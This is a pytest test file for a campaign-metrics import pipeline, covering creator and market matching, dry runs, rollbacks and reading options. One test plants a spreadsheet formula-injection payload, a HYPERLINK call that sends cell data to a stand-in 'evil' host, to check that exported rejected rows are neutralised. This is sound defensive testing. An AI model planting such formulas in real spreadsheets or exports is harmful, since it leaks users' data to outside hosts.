"""Edge cases a careful reader of the pipeline found: keys, creators, dry runs, rollbacks."""

import datetime as dt
from io import StringIO
from pathlib import Path

import pytest

from aftercast.imports.downloads import rejected_rows_csv
from aftercast.imports.errors import ImportProblem
from aftercast.imports.services import import_file, import_rollback
from aftercast.metrics.models import Comment, Journey, Observation
from tests import factories

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "imports"


def codes(report):
    return [p.code for row in report.problem_rows for p in row.problems]


@pytest.fixture
def people(workspace, campaign):
    """anna on Instagram in RU and in US; two Telegram channels in RU."""
    made = {}
    for handle, code, platform in [
        ("anna", "RU", "instagram"),
        ("chana", "RU", "telegram"),
        ("chanb", "RU", "telegram"),
    ]:
        person = factories.creator(workspace, handle, code=code, platform_slug=platform)
        account = person.accounts.get()
        account.handle = handle
        account.save()
        made[f"{handle}-{code}"] = factories.partnership(
            campaign.markets.get(market__code=code), person
        )
    # The same account works in the US market too.
    made["anna-US"] = factories.partnership(
        campaign.markets.get(market__code="US"), made["anna-RU"].account.creator
    )
    return made


def test_telegram_posts_are_numbered_per_channel(campaign, people, tmp_path):
    sheet = tmp_path / "tg.csv"
    sheet.write_text(
        "Post URL,Date,Views\nhttps://t.me/chana/5,2025-12-01,100\nhttps://t.me/chanb/5,2025-12-01,200\n"
    )
    report = import_file(campaign=campaign, path=sheet)
    assert (report.created, report.posts_created, codes(report)) == (2, 2, [])


def test_a_link_on_a_platform_the_creator_is_not_on_is_refused(campaign, people, tmp_path):
    sheet = tmp_path / "tt.csv"
    sheet.write_text("Post URL,Date,Views\nhttps://www.tiktok.com/@chana/video/1,2025-12-01,5\n")
    assert codes(import_file(campaign=campaign, path=sheet)) == ["creator_not_on_platform"]


def test_an_account_in_two_markets_needs_the_market(campaign, people, tmp_path):
    sheet = tmp_path / "anna.csv"
    sheet.write_text("Creator,Date,Spend\nanna,2025-12-01,100\n")
    assert codes(import_file(campaign=campaign, path=sheet)) == ["creator_in_several_markets"]
    report = import_file(campaign=campaign, path=sheet, market="US")
    assert report.created == 1
    assert Observation.objects.get().currency == "USD"


def test_a_dry_run_counts_what_the_real_run_does(campaign, people, tmp_path):
    sheet = tmp_path / "long.csv"
    start = dt.date(2000, 1, 1)
    lines = ["Creator,Post URL,Date,Views"]
    lines += [f"chana,,{start + dt.timedelta(days=n)},{n}" for n in range(10_001)]
    lines += [f"chana,,{start},0", "chana,https://t.me/chana/9,2000-01-01,7"]
    sheet.write_text("\n".join(lines) + "\n")
    dry = import_file(campaign=campaign, path=sheet, dry_run=True)
    real = import_file(campaign=campaign, path=sheet)
    assert (dry.created, dry.unchanged) == (real.created, real.unchanged) == (10_002, 1)


def test_rolling_back_puts_comments_and_journeys_back(campaign, posts, tmp_path):
    first = tmp_path / "c1.csv"
    first.write_text(
        "Ссылка на публикацию,Дата,ID комментария,Текст комментария\n"
        "https://instagram.example/p/ru-1,01.12.2025,c-1,Original\n"
    )
    import_file(campaign=campaign, path=first)
    edited = tmp_path / "c2.csv"
    edited.write_text(first.read_text().replace("Original", "EDITED"))
    report = import_file(campaign=campaign, path=edited)
    import_rollback(run=report.run)
    assert Comment.objects.get().text == "Original"
    import_file(campaign=campaign, path=FIXTURES / "journeys_us.csv", market="US")
    replaced = tmp_path / "j.csv"
    replaced.write_text("Journey ID,Channel,Timestamp\nj-1,email,2025-12-05 10:00\n")
    report = import_file(campaign=campaign, path=replaced, market="US")
    assert Journey.objects.get(external_id="j-1").converted is False
    import_rollback(run=report.run)
    journey = Journey.objects.get(external_id="j-1")
    assert journey.converted and [t.channel for t in journey.touchpoints.all()] == [
        "@steady.one",
        "search",
    ]


def test_imports_are_rolled_back_newest_first(campaign, posts, tmp_path):
    older = import_file(campaign=campaign, path=FIXTURES / "tiktok_us_utf8_bom.csv")
    newer = tmp_path / "newer.csv"
    newer.write_text("Post URL,Date,Reach\nhttps://tiktok.example/p/us-1,12/01/2025,13000\n")
    later = import_file(campaign=campaign, path=newer)
    with pytest.raises(ImportProblem) as refused:
        import_rollback(run=older.run)
    assert refused.value.code == "later_imports_first"
    import_rollback(run=later.run)
    import_rollback(run=older.run)
    assert not Observation.objects.exists()


def test_the_rows_to_fix_never_carry_a_live_formula(campaign, posts, tmp_path):
    sheet = tmp_path / "evil.csv"
    sheet.write_text(
        'Post URL,Date,Reach,"=HYPERLINK(""http://evil/?""&A2,""x"")"\n'
        "https://tiktok.example/p/us-1,12/01/2025,abc,\t=1+1\n"
    )
    report = import_file(campaign=campaign, path=sheet)
    out = StringIO()
    rejected_rows_csv(report.run, out)
    lines = out.getvalue().lstrip("\ufeff").splitlines()
    assert ",\"'=HYPERLINK" in lines[0]
    assert "'\t=1+1" in lines[1]


@pytest.mark.parametrize(
    ("given", "code"),
    [
        ({"encoding": "bogus"}, "bad_encoding"),
        ({"delimiter": ";;"}, "bad_delimiter"),
        ({"date_format": "dd.mm"}, "bad_date_format"),
    ],
)
def test_wrong_reading_options_are_refused_with_a_reason(given, code):
    from aftercast.imports.readers import detect, with_overrides

    with pytest.raises(ImportProblem) as refused:
        with_overrides(detect(FIXTURES / "tiktok_us_utf8_bom.csv"), **given)
    assert refused.value.code == code
